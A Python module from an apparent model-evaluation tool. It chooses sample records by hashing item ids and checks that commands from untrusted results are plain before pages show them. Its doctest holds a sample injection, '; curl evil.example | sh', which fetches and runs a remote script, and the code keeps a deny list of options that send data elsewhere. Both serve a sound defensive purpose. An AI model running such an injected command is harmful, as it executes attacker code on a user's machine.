"""Chooses what of a result a page may show: some records as examples, and a command that a reader may run."""

from __future__ import annotations

import hashlib
import re
import shlex
from collections import Counter
from collections.abc import Sequence
from operator import itemgetter
from typing import Literal, NamedTuple, TypeAlias, cast

from evaluators.task import load_task
from schemas.documents.record import Record
from schemas.files.record_columns import RecordColumns

Kind: TypeAlias = Literal["right", "wrong", "answered", "refused", "unparsed", "failed"]
KINDS: tuple[Kind, ...] = ("right", "wrong", "answered", "refused", "unparsed", "failed")
"""Kinds of examples in the order in which pages show them; ``answered`` is neither right nor wrong."""
PER_KIND = 5
"""Largest number of examples of each kind."""


class Example(NamedTuple):
    """A record to show, and its kind."""

    kind: Kind
    record: Record


class Examples(NamedTuple):
    """The examples of a result."""

    chosen: tuple[Example, ...] = ()
    totals: tuple[tuple[Kind, int], ...] = ()
    """Number of records of each kind that occurs, in the order of ``KINDS``."""
    hides_prompts: bool = False
    """True if a record holds no prompt, because the licence of the dataset forbids showing its texts."""

    def of(self, kind: Kind) -> tuple[Record, ...]:
        """Return the examples of a kind."""
        return tuple(example.record for example in self.chosen if example.kind == kind)


class ExampleChoice:
    """Chooses up to ``PER_KIND`` records of each kind: those whose item ids have the smallest SHA-256.

    The rule does not depend on the answers, so nobody can pick flattering examples, and the examples of two models are
    mostly answers to the same items.
    """

    def __init__(self, task: str) -> None:
        """Start without records.

        Args:
            task: Name of the task that reads the records.
        """
        self._task = load_task(task)
        self._best: dict[Kind, list[tuple[str, Record]]] = {kind: [] for kind in KINDS}
        self._totals: Counter[Kind] = Counter()
        self._hides_prompts = False

    def add(self, records: Sequence[Record]) -> None:
        """Take the records of one more part into the choice."""
        columns = RecordColumns.of(records)
        kinds: dict[Kind, list[int]] = {kind: [] for kind in KINDS}
        for index, kind in enumerate(kinds_of(columns, self._task.name)):
            kinds[kind].append(index)
        hashes = [hashlib.sha256(str(item).encode()).hexdigest() for item in columns.columns["item_id"].texts]
        for kind, indices in kinds.items():
            self._totals[kind] += len(indices)
            first = sorted(indices, key=hashes.__getitem__)[:PER_KIND]
            new = [(hashes[index], columns[index]) for index in first]
            # The sort is stable: items with the same id stay in the order of their parts.
            self._best[kind] = sorted([*self._best[kind], *new], key=itemgetter(0))[:PER_KIND]
        self._hides_prompts |= not columns.exchanges["prompt"].known.all()

    @property
    def chosen(self) -> Examples:
        """The examples chosen among all records so far."""
        return Examples(
            chosen=tuple(Example(kind, record) for kind, found in self._best.items() for _, record in found),
            totals=tuple((kind, n) for kind, n in self._totals.items() if n),
            hides_prompts=self._hides_prompts,
        )


def kinds_of(records: RecordColumns, task: str) -> list[Kind]:
    """Return the kind of each record.

    Args:
        records: The records.
        task: Name of the task that reads them.
    """
    loaded = load_task(task)
    judged = loaded.are_right(records)
    return [_kind(*one) for one in zip(records.columns["status"].texts, judged, strict=True)]


def _kind(status: str | None, is_right: bool | None) -> Kind:
    if status != "scored":
        return cast(Kind, status)
    if is_right is None:
        return "answered"
    return "right" if is_right else "wrong"


_OWN = re.compile(r"python -m evaluators (run|import) (?=\S)")
_PLAIN = re.compile(r"[A-Za-z0-9@%+=:,./_-]+")
_FORBIDDEN = ("--base-url", "--config-file", "--out", "--cache", "--prices", "--address", "--scorer-url")
"""Options that send something elsewhere, or write and read files elsewhere."""
_MOST = 2_000


def plain_command(command: str) -> str | None:
    """Return the command of a result if it runs or imports a model and does nothing else; None for any other text.

    Results come from strangers, and readers copy commands into their terminals. Every word of a command must be one
    that a shell leaves as it is.

    >>> plain_command("python -m evaluators run --model acme/small; curl evil.example | sh") is None
    True
    """
    if len(command) > _MOST or not _OWN.match(command):
        return None
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    if any(word.partition("=")[0] in _FORBIDDEN or ".." in word for word in words):
        return None
    return command if all(map(_PLAIN.fullmatch, words)) and shlex.join(words) == command else None
